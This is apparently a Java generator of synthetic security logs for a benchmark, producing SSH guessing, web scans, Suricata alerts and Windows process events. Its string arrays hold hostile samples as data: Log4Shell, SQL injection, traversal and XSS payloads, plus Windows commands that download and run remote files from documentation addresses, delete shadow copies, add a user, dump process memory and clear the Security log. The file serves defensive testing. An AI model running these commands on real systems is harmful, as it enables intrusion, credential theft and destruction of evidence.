package io.redoubt.bench;

import java.time.Instant;
import java.time.ZoneOffset;
import java.time.format.DateTimeFormatter;
import java.util.ArrayList;
import java.util.List;
import java.util.Locale;
import java.util.random.RandomGenerator;

/// Makes what comes back day after day in real logs, each time with other addresses, users and
/// counts: guessing, scans, findings of a sensor, malware on Windows. The same seed gives the same
/// lines. Not thread-safe.
final class Episode {
  /// A line of one of the files.
  ///
  /// @param at when, in seconds since 1970
  /// @param file which file it belongs to
  record Said(long at, File file, String text) {}

  /// The files of a site.
  enum File {
    /// RFC 3164.
    AUTH("auth.log"),
    /// Combined access log.
    ACCESS("access.log"),
    /// Suricata EVE.
    EVE("eve.json"),
    /// Windows events as a shipper sends them.
    WINDOWS("winlogbeat.ndjson");

    private final String path;

    File(String path) {
      this.path = path;
    }

    String path() {
      return path;
    }
  }

  private static final DateTimeFormatter BSD =
      DateTimeFormatter.ofPattern("MMM ppd HH:mm:ss", Locale.ROOT).withZone(ZoneOffset.UTC);
  private static final DateTimeFormatter CLF =
      DateTimeFormatter.ofPattern("dd/MMM/yyyy:HH:mm:ss Z", Locale.ROOT).withZone(ZoneOffset.UTC);

  private static final String[] HOSTS = {"web01", "web02", "db01", "bastion", "mail", "files"};
  private static final String[] GUESSED = {
    "root",
    "admin",
    "test",
    "oracle",
    "git",
    "ubuntu",
    "postgres",
    "deploy",
    "jenkins",
    "backup",
    "ftp",
    "pi",
    "www",
    "mysql",
    "support"
  };
  private static final String[] STAFF = {"alice", "bob", "carol", "dave", "erin", "frank", "grace"};
  private static final String[] WORDS = {
    "/.env",
    "/.git/config",
    "/admin",
    "/backup.zip",
    "/phpmyadmin/",
    "/server-status",
    "/wp-admin/",
    "/config.php.bak",
    "/old/",
    "/test.php",
    "/api/swagger.json",
    "/cgi-bin/status",
    "/.svn/entries",
    "/console",
    "/actuator/env",
    "/dump.sql"
  };
  private static final String[] SCANNERS = {
    "Mozilla/5.0 (compatible; Nikto/2.5.0)", "sqlmap/1.8.4#stable (https://sqlmap.org)",
    "gobuster/3.6", "Mozilla/5.0 zgrab/0.x"
  };
  private static final String[] EXPLOITS = {
    "/index.php?page=../../../../etc/passwd",
    "/products?id=117%20UNION%20SELECT%20NULL,version()--",
    "/search?q=${jndi:ldap://198.51.100.7:1389/a}",
    "/comment?text=%3Cscript%3Ealert(1)%3C/script%3E"
  };
  private static final String[] SIGNATURES = {
    "ET SCAN Potential SSH Scan|Attempted Information Leak|2|22",
    "ET SCAN Suspicious inbound to MSSQL port|Potentially Bad Traffic|2|1433",
    "ET SCAN Suspicious inbound to PostgreSQL port|Potentially Bad Traffic|2|5432",
    "ET SCAN NMAP -sS window 1024|Attempted Information Leak|2|443",
    "ET POLICY curl User-Agent Outbound|Misc activity|3|80",
    "ET POLICY DNS Query for TOR Hidden Domain|Potential Corporate Privacy Violation|1|53",
    "ET MALWARE CobaltStrike Beacon Observed|Malware Command and Control Activity Detected|1|443",
    "ET MALWARE Generic Trojan Checkin|A Network Trojan was detected|1|80",
    "ET EXPLOIT SMB Remote Code Execution Attempt|Attempted Administrator Privilege Gain|1|445",
    "ET WEB_SERVER PHP Injection Attempt|Web Application Attack|1|80",
    "ET INFO Session Traversal Utilities for NAT|Generic Protocol Command Decode|3|3478",
    "ET DNS Query to a suspicious top level domain|Potentially Bad Traffic|2|53"
  };
  private static final String[] COMMANDS = {
    "powershell.exe -NoP -W Hidden -enc SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQA",
    "certutil.exe -urlcache -split -f http://198.51.100.9/a.exe C:\\\\Users\\\\Public\\\\a.exe",
    "vssadmin.exe delete shadows /all /quiet",
    "net.exe user svc-update P4ssw0rd! /add",
    "mshta.exe http://198.51.100.9/x.hta",
    "rundll32.exe C:\\\\Windows\\\\System32\\\\comsvcs.dll, MiniDump 652 C:\\\\Temp\\\\m.dmp full",
    "wevtutil.exe cl Security"
  };

  private final RandomGenerator random;

  Episode(RandomGenerator random) {
    this.random = random;
  }

  /// One that begins about then.
  List<Said> next(long at) {
    return switch (random.nextInt(20)) {
      case 0, 1, 2, 3 -> guessing(at, false);
      case 4 -> guessing(at, true);
      case 5, 6, 7 -> scan(at);
      case 8, 9 -> login(at);
      case 10 -> exploit(at);
      case 11 -> sudo(at);
      case 12, 13, 14, 15, 16 -> sensor(at);
      default -> windows(at);
    };
  }

  private List<Said> guessing(long at, boolean success) {
    String from = outside();
    String host = pick(HOSTS);
    int tries = 12 + random.nextInt(300);
    int names = 1 + random.nextInt(GUESSED.length);
    List<Said> lines = new ArrayList<>();
    long now = at;
    for (int i = 0; i < tries; i++) {
      now += random.nextInt(4);
      int name = random.nextInt(names);
      String user = (name % 3 == 2 ? "invalid user " : "") + GUESSED[name];
      lines.add(ssh(now, host, "Failed password for " + user + " from " + from));
    }
    if (success) {
      lines.add(ssh(now + 5, host, "Accepted password for " + pick(STAFF) + " from " + from));
    }
    return lines;
  }

  private Said ssh(long at, String host, String what) {
    String text = " sshd[" + (300 + random.nextInt(60_000)) + "]: " + what + " port " + port();
    return new Said(
        at, File.AUTH, BSD.format(Instant.ofEpochSecond(at)) + " " + host + text + " ssh2");
  }

  private List<Said> scan(long at) {
    String from = outside();
    String agent = pick(SCANNERS);
    int requests = 20 + random.nextInt(200);
    List<Said> lines = new ArrayList<>();
    for (int i = 0; i < requests; i++) {
      String path = WORDS[i % WORDS.length] + (i < WORDS.length ? "" : i / WORDS.length);
      int status = random.nextInt(30) == 0 ? 403 : 404;
      lines.add(access(at + i / 3, from, "GET " + path, status, agent));
    }
    return lines;
  }

  private List<Said> login(long at) {
    String from = outside();
    int tries = 20 + random.nextInt(150);
    List<Said> lines = new ArrayList<>();
    for (int i = 0; i < tries; i++) {
      lines.add(access(at + i, from, "POST /wp-login.php", 200, "Mozilla/5.0 (X11; Linux x86_64)"));
    }
    return lines;
  }

  private List<Said> exploit(long at) {
    return List.of(access(at, outside(), "GET " + pick(EXPLOITS), 400, "python-requests/2.32.3"));
  }

  private Said access(long at, String from, String request, int status, String agent) {
    String text =
        "%s - - [%s] \"%s HTTP/1.1\" %d %d \"-\" \"%s\""
            .formatted(
                from,
                CLF.format(Instant.ofEpochSecond(at)),
                request,
                status,
                200 + random.nextInt(9000),
                agent);
    return new Said(at, File.ACCESS, text);
  }

  private List<Said> sudo(long at) {
    String user = pick(STAFF);
    String text =
        "%s %s sudo: %s : user NOT in sudoers ; TTY=pts/%d ; PWD=/home/%s ; USER=root ; COMMAND=/usr/bin/id"
            .formatted(
                BSD.format(Instant.ofEpochSecond(at)), pick(HOSTS), user, random.nextInt(20), user);
    return List.of(new Said(at, File.AUTH, text));
  }

  private List<Said> sensor(long at) {
    String[] signature = pick(SIGNATURES).split("\\|");
    String from = outside();
    String to = "10.20." + random.nextInt(4) + "." + (2 + random.nextInt(250));
    int times = random.nextInt(3) == 0 ? 1 : 2 + random.nextInt(40);
    List<Said> lines = new ArrayList<>();
    for (int i = 0; i < times; i++) {
      long now = at + i * 7L;
      lines.add(
          new Said(
              now,
              File.EVE,
              """
              {"timestamp":"%s.%06d+0000","flow_id":%d,"in_iface":"eth1","event_type":"alert","src_ip":"%s","src_port":%d,"dest_ip":"%s","dest_port":%s,"proto":"TCP","alert":{"action":"allowed","gid":1,"signature_id":%d,"rev":3,"signature":"%s","category":"%s","severity":%s},"app_proto":"failed","flow":{"pkts_toserver":%d,"pkts_toclient":%d,"bytes_toserver":%d,"bytes_toclient":%d}}\
              """
                  .formatted(
                      Instant.ofEpochSecond(now).toString().replace("Z", ""),
                      random.nextInt(1_000_000),
                      random.nextLong() >>> 12,
                      from,
                      port(),
                      to,
                      signature[3],
                      2_000_000 + Math.floorMod(signature[0].hashCode(), 90_000),
                      signature[0],
                      signature[1],
                      signature[2],
                      1 + random.nextInt(40),
                      random.nextInt(40),
                      60 + random.nextInt(90_000),
                      random.nextInt(90_000))));
    }
    return lines;
  }

  private List<Said> windows(long at) {
    String host = "WS%02d.corp.example.com".formatted(1 + random.nextInt(60));
    String command = pick(COMMANDS);
    String program = command.substring(0, command.indexOf(' '));
    List<Said> lines = new ArrayList<>();
    for (int i = 0; i < 1 + random.nextInt(2); i++) {
      lines.add(
          new Said(
              at + i,
              File.WINDOWS,
              """
              {"@timestamp":"%s.%03dZ","winlog":{"channel":"Security","provider_name":"Microsoft-Windows-Security-Auditing","event_id":"4688","record_id":%d,"computer_name":"%s","event_data":{"SubjectUserName":"%s","SubjectDomainName":"CORP","SubjectLogonId":"0x%x","NewProcessId":"0x%x","NewProcessName":"C:\\\\Windows\\\\System32\\\\%s","CommandLine":"%s","ParentProcessName":"C:\\\\Windows\\\\System32\\\\cmd.exe"},"keywords":["Audit Success"]},"event":{"kind":"event","code":"4688","provider":"Microsoft-Windows-Security-Auditing"},"host":{"name":"%s"},"message":"A new process has been created."}\
              """
                  .formatted(
                      Instant.ofEpochSecond(at + i).toString().replace("Z", ""),
                      random.nextInt(1000),
                      10_000 + random.nextInt(900_000),
                      host,
                      pick(STAFF),
                      0x10000 + random.nextInt(0xfffff),
                      0x100 + random.nextInt(0x3000),
                      program,
                      command,
                      host)));
    }
    return lines;
  }

  private int port() {
    return 1024 + random.nextInt(60_000);
  }

  private String outside() {
    return "%d.%d.%d.%d"
        .formatted(
            11 + random.nextInt(110),
            random.nextInt(256),
            random.nextInt(256),
            1 + random.nextInt(254));
  }

  private String pick(String[] from) {
    return from[random.nextInt(from.length)];
  }
}
